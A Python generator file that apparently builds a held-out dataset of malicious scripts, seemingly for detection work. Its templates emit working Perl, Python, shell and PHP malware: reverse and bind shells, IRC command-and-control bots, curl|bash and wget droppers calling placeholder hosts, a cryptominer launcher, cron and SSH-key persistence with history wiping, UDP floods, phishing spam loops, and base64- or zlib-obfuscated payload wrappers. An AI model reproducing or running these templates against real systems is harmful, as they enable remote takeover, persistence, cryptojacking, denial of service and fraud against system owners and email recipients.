"""Malicious Perl, Python, shell and PHP CLI of the held-out set: IRC bots,
reverse and bind shells, SMTP spam loops, download-and-run droppers, miner
launchers, cron and SSH-key persistence, floods. Each template returns
(text, lang). Written blind (README.md). Addresses are documentation ranges."""

import base64
import zlib

C2 = ("198.51.100.23", "203.0.113.7", "192.0.2.44", "irc.example.net", "cdn.example.org", "203.0.113.199")


def ip(r):
    return r.choice(C2)


def port(r):
    return str(r.choice((4444, 1337, 8080, 443, 53, 6667, 31337, 9001, 2083, 8443)))


def nick(r):
    return r.choice(("bot", "x", "srv", "h", "root", "cp", "w")) + "%s" % r.randint(1, 9999)


def shebang(r, lang):
    return {"perl": r.choice(("#!/usr/bin/perl", "#!/usr/bin/perl -w", "#!/usr/bin/env perl", "")),
            "python": r.choice(("#!/usr/bin/env python3", "#!/usr/bin/python", "#!/usr/bin/python3", "")),
            "sh": r.choice(("#!/bin/sh", "#!/bin/bash", "#!/usr/bin/env bash", "")),
            "php": r.choice(("#!/usr/bin/php", "#!/usr/bin/env php", "<?php", "<?php"))}[lang]


def _pv(r):
    return "$" + r.choice(("sock", "s", "c", "con", "irc", "fh", "S", "x", "h", "k"))


# ---------------------------------------------------------------------------
# Perl


def pl_irc_bot(r, S):
    s = _pv(r)
    ch = "#" + r.choice(("lol", "x", "scan", "bots", "chan%d" % r.randint(1, 99)))
    mask = r.choice(("/usr/sbin/httpd", "[kworker/0:1]", "/usr/sbin/sshd -D", "-bash", "apache2 -k start"))
    cmd = r.choice(("!x", "!sh", "!cmd", "@exec", ".run"))
    run = r.choice(("my @o = `$1 2>&1`;", "my @o = qx{$1};", "open(my $p, \"$1 |\"); my @o = <$p>;"))
    return "\n".join([shebang(r, "perl"), "use IO::Socket;" if r.random() < 0.5 else "use IO::Socket::INET;",
                      "$0 = '%s';" % mask, "my $srv = '%s'; my $port = %s;" % (ip(r), r.choice(("6667", "7000", "443"))),
                      "exit if fork();" if r.random() < 0.6 else "$SIG{'INT'} = 'IGNORE'; $SIG{'HUP'} = 'IGNORE';",
                      "my %s = IO::Socket::INET->new(PeerAddr => $srv, PeerPort => $port, Proto => 'tcp') or die;" % s,
                      "print %s \"NICK %s\\r\\nUSER %s 8 * :%s\\r\\n\";" % (s, nick(r), nick(r), nick(r)),
                      "print %s \"JOIN %s\\r\\n\";" % (s, ch),
                      "while (my $l = <%s>) {" % s,
                      "  if ($l =~ /^PING (.*)/) { print %s \"PONG $1\\r\\n\"; next; }" % s,
                      "  if ($l =~ /PRIVMSG (\\S+) :%s (.*)/) {" % cmd.replace(".", "\\."),
                      "    my $t = $1; %s" % run.replace("$1", "$2"),
                      "    foreach (@o) { print %s \"PRIVMSG $t :$_\\r\\n\"; sleep 1; }" % s,
                      "  }", "}", ""])


def pl_reverse(r, S):
    h, p = ip(r), port(r)
    k = r.randint(0, 2)
    if k == 0:
        return "\n".join([shebang(r, "perl"), "use Socket;", "$i = '%s'; $p = %s;" % (h, p),
                          "socket(S, PF_INET, SOCK_STREAM, getprotobyname('tcp'));",
                          "if (connect(S, sockaddr_in($p, inet_aton($i)))) { open(STDIN, '>&S'); open(STDOUT, '>&S'); "
                          "open(STDERR, '>&S'); exec('/bin/sh -i'); }", ""])
    if k == 1:
        return "\n".join([shebang(r, "perl"), "use IO::Socket::INET;",
                          "my $c = IO::Socket::INET->new(PeerAddr => '%s:%s') or exit;" % (h, p),
                          "print $c \"connected\\n\";",
                          "while (my $cmd = <$c>) { chomp $cmd; last if $cmd eq 'exit'; print $c `$cmd 2>&1`; }", ""])
    return "perl -MIO -e '$p=fork;exit,if($p);$c=new IO::Socket::INET(PeerAddr,\"%s:%s\");STDIN->fdopen($c,r);" \
           "$~->fdopen($c,w);system$_ while<>;'\n" % (h, p)


def pl_bind(r, S):
    p = port(r)
    return "\n".join([shebang(r, "perl"), "use Socket;", "$port = %s;" % p,
                      "socket(SRV, PF_INET, SOCK_STREAM, getprotobyname('tcp'));",
                      "setsockopt(SRV, SOL_SOCKET, SO_REUSEADDR, 1);",
                      "bind(SRV, sockaddr_in($port, INADDR_ANY)) || die; listen(SRV, 3);",
                      "while (accept(CL, SRV)) { if (!fork()) { open STDIN, '<&CL'; open STDOUT, '>&CL'; "
                      "open STDERR, '>&CL'; exec '/bin/bash -i'; } close CL; }", ""])


def pl_smtp_spam(r, S):
    k = r.randint(0, 1)
    lst = r.choice(("list.txt", "/tmp/.m/l", "$ARGV[0]", "emails"))
    if k == 0:
        return "\n".join([shebang(r, "perl"), "use Net::SMTP;",
                          "open(L, '<', '%s') or die; my @to = <L>; close L;" % lst,
                          "foreach my $rcpt (@to) { chomp $rcpt;",
                          "  my $smtp = Net::SMTP->new('%s', Timeout => 20) or next;" % r.choice(
                              ("localhost", "127.0.0.1", "mail.example.net")),
                          "  $smtp->mail('%s'); $smtp->to($rcpt); $smtp->data();" % r.choice(
                              ("service@example.com", "no-reply@bank.example", "support@example.org")),
                          "  $smtp->datasend(\"Subject: %s\\nTo: $rcpt\\n\\n\"); $smtp->datasend($body);" % r.choice(
                              ("Account suspended", "Invoice #%d" % r.randint(1000, 9999), "Verify your mailbox")),
                          "  $smtp->dataend(); $smtp->quit;", "}", ""])
    return "\n".join([shebang(r, "perl"), "use IO::Socket::INET;",
                      "my @list = split /\\n/, `cat %s`;" % lst,
                      "for my $t (@list) {", "  my ($dom) = $t =~ /@(.+)$/;",
                      "  my $s = IO::Socket::INET->new(PeerAddr => \"mx.$dom\", PeerPort => 25) or next;",
                      "  <$s>; print $s \"HELO localhost\\r\\n\"; <$s>;",
                      "  print $s \"MAIL FROM:<promo\\@example.com>\\r\\n\"; <$s>; print $s \"RCPT TO:<$t>\\r\\n\"; <$s>;",
                      "  print $s \"DATA\\r\\n\"; <$s>; print $s \"Subject: Hi\\r\\n\\r\\n$msg\\r\\n.\\r\\n\"; <$s>;",
                      "  print $s \"QUIT\\r\\n\"; close $s;", "}", ""])


def pl_dropper(r, S):
    u = "http://%s/%s" % (ip(r), r.choice(("x86", "b.pl", "s", "up.bin")))
    dst = r.choice(("/tmp/.x", "/var/tmp/.font-unix", "/dev/shm/.s"))
    k = r.randint(0, 1)
    if k == 0:
        return "\n".join([shebang(r, "perl"), "use LWP::Simple;", "getstore('%s', '%s');" % (u, dst),
                          "chmod 0755, '%s';" % dst, "system('%s &');" % dst, ""])
    return "\n".join([shebang(r, "perl"), "my $f = '%s';" % dst,
                      "`wget -q -O $f %s || curl -s -o $f %s`;" % (u, u), "chmod(0777, $f); exec($f);", ""])


def pl_flood(r, S):
    return "\n".join([shebang(r, "perl"), "use Socket;", "my ($ip, $port, $time) = @ARGV;",
                      "socket(crazy, PF_INET, SOCK_DGRAM, 17); my $iaddr = inet_aton($ip);",
                      "my $end = time() + ($time ? $time : 100);",
                      "while (time() < $end) { my $size = int(rand(1024 - 64) + 64); my $pt = $port ? $port : int(rand(65500)) + 1;",
                      "  send(crazy, pack(\"a$size\", 'flood'), 0, pack_sockaddr_in($pt, $iaddr)); }", ""])


def pl_encoded(r, S):
    inner = r.choice((pl_reverse, pl_irc_bot, pl_dropper))(r, S)
    inner = "\n".join(l for l in inner.split("\n") if not l.startswith("#!"))
    b = base64.b64encode(inner.encode()).decode()
    k = r.randint(0, 1)
    if k == 0:
        return "%s\nuse MIME::Base64;\neval(decode_base64('%s'));\n" % (shebang(r, "perl"), b)
    return "%s\neval(pack('H*', '%s'));\n" % (shebang(r, "perl"), inner.encode().hex())


# ---------------------------------------------------------------------------
# Python


def py_irc_bot(r, S):
    ind = r.choice(("    ", "  ", "\t"))
    return "\n".join([shebang(r, "python"), "import socket, subprocess, os", "",
                      "s = socket.socket()", "s.connect((%r, %s))" % (ip(r), r.choice(("6667", "6697", "8080"))),
                      "s.send(b'NICK %s\\r\\nUSER %s 0 * :x\\r\\nJOIN #%s\\r\\n')" % (nick(r), nick(r), r.choice(
                          ("x", "z", "home"))),
                      "while True:", ind + "d = s.recv(4096).decode(errors='ignore')",
                      ind + "if d.startswith('PING'):", ind * 2 + "s.send(d.replace('PING', 'PONG').encode())",
                      ind + "if ':!sh ' in d:", ind * 2 + "c = d.split(':!sh ', 1)[1].strip()",
                      ind * 2 + "o = subprocess.getoutput(c)" if r.random() < 0.5 else
                      ind * 2 + "o = subprocess.check_output(c, shell=True, stderr=subprocess.STDOUT).decode()",
                      ind * 2 + "for line in o.splitlines()[:20]:",
                      ind * 3 + "s.send(('PRIVMSG #x :' + line + '\\r\\n').encode())", ""])


def py_reverse(r, S):
    h, p = ip(r), port(r)
    k = r.randint(0, 2)
    if k == 0:
        return "\n".join([shebang(r, "python"), "import socket,os,pty", "s=socket.socket(socket.AF_INET,socket.SOCK_STREAM)",
                          "s.connect((%r,%s))" % (h, p), "os.dup2(s.fileno(),0)", "os.dup2(s.fileno(),1)",
                          "os.dup2(s.fileno(),2)", "pty.spawn('/bin/bash')", ""])
    if k == 1:
        return "\n".join([shebang(r, "python"), "import socket, subprocess", "", "def main():",
                          "    c = socket.create_connection((%r, %s))" % (h, p), "    while True:",
                          "        cmd = c.recv(1024).decode().strip()", "        if not cmd or cmd == 'quit':",
                          "            break",
                          "        p = subprocess.Popen(cmd, shell=True, stdout=subprocess.PIPE, stderr=subprocess.STDOUT)",
                          "        c.sendall(p.communicate()[0] or b'\\n')", "", "main()", ""])
    return ("python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect((\"%s\",%s));"
            "[os.dup2(s.fileno(),f) for f in (0,1,2)];subprocess.call([\"/bin/sh\",\"-i\"])'\n" % (h, p))


def py_bind(r, S):
    return "\n".join([shebang(r, "python"), "import socket, subprocess, os", "srv = socket.socket()",
                      "srv.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)",
                      "srv.bind(('0.0.0.0', %s)); srv.listen(1)" % port(r), "while True:",
                      "    c, a = srv.accept()", "    if os.fork() == 0:",
                      "        for fd in (0, 1, 2): os.dup2(c.fileno(), fd)",
                      "        os.execv('/bin/sh', ['sh', '-i'])", ""])


def py_smtp_spam(r, S):
    return "\n".join([shebang(r, "python"), "import smtplib, time, sys", "from email.mime.text import MIMEText", "",
                      "targets = [l.strip() for l in open(%r) if '@' in l]" % r.choice(("list.txt", "/tmp/.l", "mails.csv")),
                      "body = open(%r).read()" % r.choice(("letter.html", "msg.txt")),
                      "srv = smtplib.SMTP(%r, %s)" % (r.choice(("localhost", "127.0.0.1", "smtp.example.net")),
                                                      r.choice(("25", "587"))),
                      "for i, t in enumerate(targets):",
                      "    m = MIMEText(body, 'html')", "    m['Subject'] = %r" % r.choice(
                          ("Payment failed", "Your parcel is waiting", "Security alert")),
                      "    m['From'] = %r" % r.choice(("PayPal <service@example.com>", "DHL <track@example.org>")),
                      "    m['To'] = t", "    try:", "        srv.sendmail(m['From'], [t], m.as_string())",
                      "    except Exception:", "        srv = smtplib.SMTP('localhost')",
                      "    if i %% %d == 0:" % r.randint(20, 200), "        time.sleep(1)", ""])


def py_dropper(r, S):
    u = "http://%s/%s" % (ip(r), r.choice(("k", "kthreadd", "x.py", "bins/mips")))
    dst = r.choice(("/tmp/.kworker", "/dev/shm/.x", "/var/tmp/.systemd"))
    k = r.randint(0, 1)
    if k == 0:
        return "\n".join([shebang(r, "python"), "import urllib.request, os, subprocess",
                          "urllib.request.urlretrieve(%r, %r)" % (u, dst), "os.chmod(%r, 0o755)" % dst,
                          "subprocess.Popen([%r], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)"
                          % dst, ""])
    return "\n".join([shebang(r, "python"), "import urllib.request as u", "exec(u.urlopen(%r).read())" % u, ""])


def py_encoded(r, S):
    inner = r.choice((py_reverse, py_irc_bot, py_bind))(r, S)
    if inner.startswith("python3 -c"):
        inner = py_bind(r, S)
    inner = "\n".join(l for l in inner.split("\n") if not l.startswith("#!"))
    k = r.randint(0, 1)
    if k == 0:
        return "%s\nimport base64\nexec(base64.b64decode(%r))\n" % (shebang(r, "python"),
                                                                     base64.b64encode(inner.encode()).decode())
    z = base64.b64encode(zlib.compress(inner.encode(), 9)).decode()
    return "%s\nimport zlib, base64\nexec(zlib.decompress(base64.b64decode(%r)).decode())\n" % (shebang(r, "python"), z)


# ---------------------------------------------------------------------------
# shell


def sh_reverse(r, S):
    h, p = ip(r), port(r)
    return shebang(r, "sh") + "\n" + r.choice((
        "bash -i >& /dev/tcp/%s/%s 0>&1\n" % (h, p),
        "nohup bash -c 'bash -i >& /dev/tcp/%s/%s 0>&1' >/dev/null 2>&1 &\n" % (h, p),
        "rm -f /tmp/.f; mkfifo /tmp/.f; cat /tmp/.f | /bin/sh -i 2>&1 | nc %s %s > /tmp/.f\n" % (h, p),
        "nc -e /bin/sh %s %s\n" % (h, p),
        "socat exec:'bash -li',pty,stderr,setsid,sigint,sane tcp:%s:%s\n" % (h, p),
        "exec 5<>/dev/tcp/%s/%s\ncat <&5 | while read line; do $line 2>&5 >&5; done\n" % (h, p),
        "while true; do sh -i < /dev/tcp/%s/%s 1>&0 2>&0; sleep 60; done\n" % (h, p),
    ))


def sh_dropper(r, S):
    u = "http://%s/%s" % (ip(r), r.choice(("i.sh", "x", "a/run", "ldr")))
    d = r.choice(("/tmp", "/var/tmp", "/dev/shm", "$HOME/.cache"))
    n = r.choice((".x", ".ICE-unix/.s", "kdevtmpfs", ".sshd", "httpd"))
    return shebang(r, "sh") + "\n" + r.choice((
        "curl -fsSL %s | bash\n" % u,
        "wget -q -O - %s | sh\n" % u,
        "cd %s || cd /tmp\n(wget -q %s -O %s || curl -s %s -o %s || busybox wget %s -O %s)\nchmod +x %s\nnohup ./%s >/dev/null 2>&1 &\n"
        % (d, u, n, u, n, u, n, n, n),
        "for d in /dev/shm /tmp /var/tmp; do\n  if [ -w \"$d\" ]; then cd \"$d\"; break; fi\ndone\n"
        "curl -s -o .%s %s && chmod 755 .%s && ./.%s\nrm -f .%s\n" % (n.strip("."), u, n.strip("."), n.strip("."),
                                                                     n.strip(".")),
        "python3 -c \"import urllib.request;exec(urllib.request.urlopen('%s').read())\"\n" % u,
    ))


def sh_miner(r, S):
    pool = r.choice(("pool.example.net:3333", "xmr.example.org:443", "203.0.113.9:5555"))
    wallet = "4" + "".join(r.choice("ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz123456789") for _ in range(94))
    d = r.choice(("/tmp/.X11-unix/.m", "/var/tmp/.cache", "$HOME/.config/.sys"))
    return "\n".join([shebang(r, "sh"),
                      "pkill -f xmr 2>/dev/null; pkill -f kinsing 2>/dev/null; pkill -f 'stratum' 2>/dev/null",
                      "mkdir -p %s && cd %s" % (d, d),
                      "[ -x ./%s ] || { curl -sL http://%s/xm.tar.gz | tar xz; mv xmrig %s; }" % (
                          r.choice(("kswapd0", "systemd-journal", "php-fpm")), ip(r),
                          r.choice(("kswapd0", "systemd-journal", "php-fpm"))),
                      "nohup ./%s -o %s -u %s -p x --donate-level 1 -B --max-cpu-usage=%d >/dev/null 2>&1 &" % (
                          r.choice(("kswapd0", "systemd-journal", "php-fpm")), pool, wallet, r.choice((50, 75, 90))),
                      ""])


def sh_cron(r, S):
    u = "http://%s/%s" % (ip(r), r.choice(("c.sh", "up", "x")))
    when = r.choice(("*/10 * * * *", "* * * * *", "@reboot", "*/5 * * * *", "0 * * * *"))
    k = r.randint(0, 2)
    if k == 0:
        return "%s\n(crontab -l 2>/dev/null | grep -v '%s'; echo \"%s curl -fsSL %s | sh >/dev/null 2>&1\") | crontab -\n" % (
            shebang(r, "sh"), u, when, u)
    if k == 1:
        return "%s\necho '%s wget -q -O- %s | bash' >> /var/spool/cron/crontabs/$(whoami)\n" % (shebang(r, "sh"), when, u)
    return ("%s\ncp \"$0\" /tmp/.sys.sh 2>/dev/null\nchmod +x /tmp/.sys.sh\n"
            "crontab -l 2>/dev/null > /tmp/.c; echo '%s /tmp/.sys.sh' >> /tmp/.c; crontab /tmp/.c; rm -f /tmp/.c\n"
            "pgrep -f '%s' >/dev/null || (nohup perl /tmp/.b.pl >/dev/null 2>&1 &)\n" % (shebang(r, "sh"), when, ip(r)))


def sh_sshkey(r, S):
    key = "ssh-rsa AAAAB3NzaC1yc2E" + "".join(r.choice("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/")
                                             for _ in range(300)) + " " + r.choice(("root@localhost", "x@x", "admin"))
    return "\n".join([shebang(r, "sh"), "mkdir -p ~/.ssh && chmod 700 ~/.ssh",
                      "grep -q '%s' ~/.ssh/authorized_keys 2>/dev/null || echo '%s' >> ~/.ssh/authorized_keys" % (
                          key[-40:], key),
                      "chmod 600 ~/.ssh/authorized_keys", "touch -r /etc/passwd ~/.ssh/authorized_keys",
                      "history -c; rm -f ~/.bash_history", ""])


def sh_encoded(r, S):
    inner = r.choice((sh_reverse, sh_dropper, sh_cron))(r, S)
    inner = "\n".join(l for l in inner.split("\n") if not l.startswith("#!"))
    b = base64.b64encode(inner.encode()).decode()
    return shebang(r, "sh") + "\n" + r.choice((
        "echo %s | base64 -d | bash\n" % b,
        "eval \"$(echo '%s' | base64 --decode)\"\n" % b,
        "printf '%s' | xxd -r -p | sh\n" % inner.encode().hex(),
    ))


# ---------------------------------------------------------------------------
# PHP CLI bots (run with php from cron or a shell, not through the web server)


def _php(r):
    return shebang(r, "php")


def phpcli_irc(r, S):
    head = _php(r)
    php = "" if head.startswith("<?php") else "\n<?php"
    return "\n".join([head + php, "set_time_limit(0); error_reporting(0);",
                      "$s = fsockopen('%s', 6667, $en, $es, 30);" % ip(r),
                      "fputs($s, \"NICK %s\\r\\nUSER %s 8 * :php\\r\\nJOIN #%s\\r\\n\");" % (nick(r), nick(r), r.choice(
                          ("x", "php", "w"))),
                      "while (!feof($s)) {", "  $l = fgets($s, 1024);",
                      "  if (preg_match('/^PING (.+)/', $l, $m)) { fputs($s, \"PONG {$m[1]}\\r\\n\"); }",
                      "  if (preg_match('/PRIVMSG (\\S+) :\\.(exec|sh) (.+)/', $l, $m)) {",
                      "    foreach (explode(\"\\n\", shell_exec(trim($m[3]))) as $o) { fputs($s, \"PRIVMSG {$m[1]} :$o\\r\\n\"); }",
                      "  }", "}", ""])


def phpcli_reverse(r, S):
    head = _php(r)
    php = "" if head.startswith("<?php") else "\n<?php"
    h, p = ip(r), port(r)
    return "\n".join([head + php, "$sock = fsockopen('%s', %s);" % (h, p),
                      r.choice(("$proc = proc_open('/bin/sh -i', array(0 => $sock, 1 => $sock, 2 => $sock), $pipes);",
                                "exec('/bin/sh -i <&3 >&3 2>&3');",
                                "while ($c = fgets($sock)) { fwrite($sock, shell_exec($c)); }")), ""])


def phpcli_flood(r, S):
    head = _php(r)
    php = "" if head.startswith("<?php") else "\n<?php"
    return "\n".join([head + php, "ignore_user_abort(true); set_time_limit(0);",
                      "$host = $argv[1] ?? $_GET['host']; $t = time() + (int)($argv[2] ?? $_GET['time']);",
                      "$out = str_repeat('X', 65000);",
                      "while (time() < $t) { $fp = fsockopen('udp://' . $host, rand(1, 65000), $e, $s, 5); "
                      "if ($fp) { fwrite($fp, $out); fclose($fp); } }", ""])


def phpcli_cron(r, S):
    head = _php(r)
    php = "" if head.startswith("<?php") else "\n<?php"
    u = "http://%s/%s" % (ip(r), r.choice(("p.txt", "c")))
    return "\n".join([head + php, "$me = '/tmp/.' . md5(php_uname());",
                      "@file_put_contents($me, file_get_contents('%s'));" % u,
                      "$line = '*/15 * * * * php ' . $me . ' >/dev/null 2>&1';",
                      "if (strpos(shell_exec('crontab -l 2>/dev/null'), $me) === false) {",
                      "  shell_exec('(crontab -l 2>/dev/null; echo ' . escapeshellarg($line) . ') | crontab -');", "}",
                      "include $me;", ""])


TEMPLATES = [
    ("perl", "irc_bot", pl_irc_bot, 5), ("perl", "reverse_shell", pl_reverse, 5), ("perl", "bind_shell", pl_bind, 3),
    ("perl", "smtp_spam", pl_smtp_spam, 4), ("perl", "dropper", pl_dropper, 3), ("perl", "udp_flood", pl_flood, 3),
    ("perl", "encoded_perl", pl_encoded, 3),
    ("python", "irc_bot", py_irc_bot, 3), ("python", "reverse_shell", py_reverse, 5), ("python", "bind_shell", py_bind, 3),
    ("python", "smtp_spam", py_smtp_spam, 4), ("python", "dropper", py_dropper, 3),
    ("python", "encoded_python", py_encoded, 3),
    ("sh", "reverse_shell", sh_reverse, 6), ("sh", "dropper", sh_dropper, 5), ("sh", "miner_launcher", sh_miner, 4),
    ("sh", "cron_persistence", sh_cron, 4), ("sh", "sshkey_persistence", sh_sshkey, 2), ("sh", "encoded_shell", sh_encoded, 3),
    ("php", "irc_bot", phpcli_irc, 3), ("php", "reverse_shell", phpcli_reverse, 3), ("php", "udp_flood", phpcli_flood, 2),
    ("php", "cron_persistence", phpcli_cron, 2),
]
